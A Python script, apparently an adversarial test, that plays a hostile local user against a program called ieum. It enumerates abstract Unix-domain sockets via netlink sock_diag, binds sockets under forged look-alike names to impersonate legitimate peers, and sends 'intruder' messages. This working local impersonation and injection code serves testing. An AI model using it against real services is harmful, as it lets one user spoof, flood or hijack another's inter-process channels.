"""Another user of the machine: finds the sockets that stand for ieum's by the names which the kernel lists, and speaks to
them from sockets that bear names of the same kind. Prints how many streams and datagrams it got rid of.
"""

import socket
import struct

NETLINK_SOCK_DIAG, SOCK_DIAG_BY_FAMILY, DUMP, DONE = 4, 20, 0x301, 3
ALL_STATES, SHOW_NAME, NAME = 0xFFFFFFFF, 1, 0
LISTENING = 10
PREFIX = 1 + 16  # the zero of an abstract name, and the run's own bytes
NUMBERS = range(1, 9)  # of sockets that the victim may have


def sockets():
    """Kind, state and abstract name of every AF_UNIX socket."""
    diag = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)
    request = struct.pack("=BBHIIIII", socket.AF_UNIX, 0, 0, ALL_STATES, 0, SHOW_NAME, 0, 0)
    diag.send(struct.pack("=IHHII", 16 + len(request), SOCK_DIAG_BY_FAMILY, DUMP, 1, 0) + request)
    while True:
        answer, at = diag.recv(1 << 20), 0
        while at < len(answer):
            length, what = struct.unpack_from("=IH", answer, at)
            if what == DONE:
                return
            _, kind, state = struct.unpack_from("=BBB", answer, at + 16)
            attribute = at + 32
            while attribute < at + length:
                size, which = struct.unpack_from("=HH", answer, attribute)
                if which == NAME:
                    yield kind, state, answer[attribute + 4 : attribute + size]
                attribute += (size + 3) & ~3
            at += (length + 3) & ~3


streams = datagrams = 0
kept = []
for kind, state, name in list(sockets()):
    if name[:1] != b"\0" or name[PREFIX : PREFIX + 1] != b"s":
        continue
    for number in NUMBERS:
        end = socket.socket(socket.AF_UNIX, kind)
        end.setblocking(False)  # a full queue is somebody else's
        own = struct.pack(">QQ", number, (1 << 64) - 1)
        try:
            if kind == socket.SOCK_STREAM and state == LISTENING:
                end.bind(name[:PREFIX] + b"p" + own)
                end.connect(name)
                streams += 1
                kept.append(end)  # closed, it would leave the queue
                end.send(b"intruder")
            elif kind == socket.SOCK_DGRAM:
                remote = b"\4" + bytes(10) + b"\xff\xff" + socket.inet_aton("192.0.2.1") + struct.pack(">H", 53)
                end.bind(name[:PREFIX] + b"r" + own + remote)
                datagrams += end.sendto(b"intruder", name) == 8
        except OSError:
            pass
print("intruder", streams, datagrams, flush=True)
input()
